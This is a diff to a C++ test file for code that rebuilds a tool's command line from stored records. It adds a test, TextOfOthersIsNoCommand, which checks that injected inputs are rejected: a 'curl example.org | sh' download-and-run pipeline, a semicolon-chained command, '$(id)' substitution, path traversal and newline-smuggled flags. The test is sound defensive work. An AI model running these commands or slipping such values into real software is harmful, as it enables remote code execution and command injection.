@@ -58,19 +58,49 @@ TEST(CommandAgainTest, LimitsAConfigToTheRows) {
       "--transforms=Resize", "--output=old.jsonl",   "--resume",    "--seed=3",
       "--note=two words"};
   EXPECT_THAT(CommandAgain(command, {&flip, &blur}),
-              ElementsAre("/opt/micro", "--config=c.textproto", "--seed=3",
+              ElementsAre("micro", "--config=c.textproto", "--seed=3",
                           "'--note=two words'", "--libraries=opencv",
                           "--transforms=Blur,Flip"));
   // Without transforms, those that were asked for stay.
   blur.clear_transform();
   EXPECT_THAT(
       CommandAgain(command, {&blur}),
-      ElementsAre("/opt/micro", "--config=c.textproto", "--transforms=Resize",
+      ElementsAre("micro", "--config=c.textproto", "--transforms=Resize",
                   "--seed=3", "'--note=two words'", "--libraries=opencv"));
   // Jobs of a file cannot be chosen.
   EXPECT_THAT(CommandAgain({"micro", "--jobs=j", "--output", "x"}, {&flip}),
               ElementsAre("micro", "--jobs=j"));
   EXPECT_THAT(CommandAgain({}, {&flip}), IsEmpty());
+}
+
+// Anybody can write a record, and people run what we print.
+TEST(CommandAgainTest, TextOfOthersIsNoCommand) {
+  unsetenv("FEEDRATE_COMMAND");
+  Row flip;
+  flip.set_library("opencv");
+  for (const std::vector<std::string>& command :
+       std::vector<std::vector<std::string>>{
+           {"sh", "-c", "curl example.org | sh"},
+           {"micro", "--config=c", "; curl example.org | sh"},
+           {"micro", "--config=$(id)"},
+           {"micro", "--config=../../evil"},
+           {"micro", "--config=c", "--python=./evil"},
+           {"micro", "--config=c", "--libraries=evil:flip"},
+           {"micro", "--config=c", "--subject", "evil"},
+           {"micro", "--config=c", "--cache_dir=x"},
+           {"micro", "--config=c\n--seed=1"},
+           {"./evil", "--config=c"}}) {
+    EXPECT_THAT(CommandAgain(command, {&flip}), IsEmpty()) << command.back();
+    EXPECT_THAT(CheckedCommand(command), IsEmpty()) << command.back();
+  }
+  EXPECT_EQ(FlagOf({"micro", "--python=./evil"}, "python"), "");
+  EXPECT_EQ(FlagOf({"micro", "--dataset=s3://evil/x"}, "dataset"), "");
+  EXPECT_EQ(FlagOf({"micro", "--dataset", "data/a b"}, "dataset"),
+            "'--dataset=data/a b'");
+  EXPECT_THAT(CheckedCommand({"./evil/micro", "--seed=3", "--output=x"}),
+              ElementsAre("micro", "--seed=3"));
+  flip.set_library("evil:flip");
+  EXPECT_THAT(CommandAgain({"micro", "--config=c"}, {&flip}), IsEmpty());
 }
 
 TEST(CommandAgainTest, NamesTheFrontCommandThatPeopleType) {
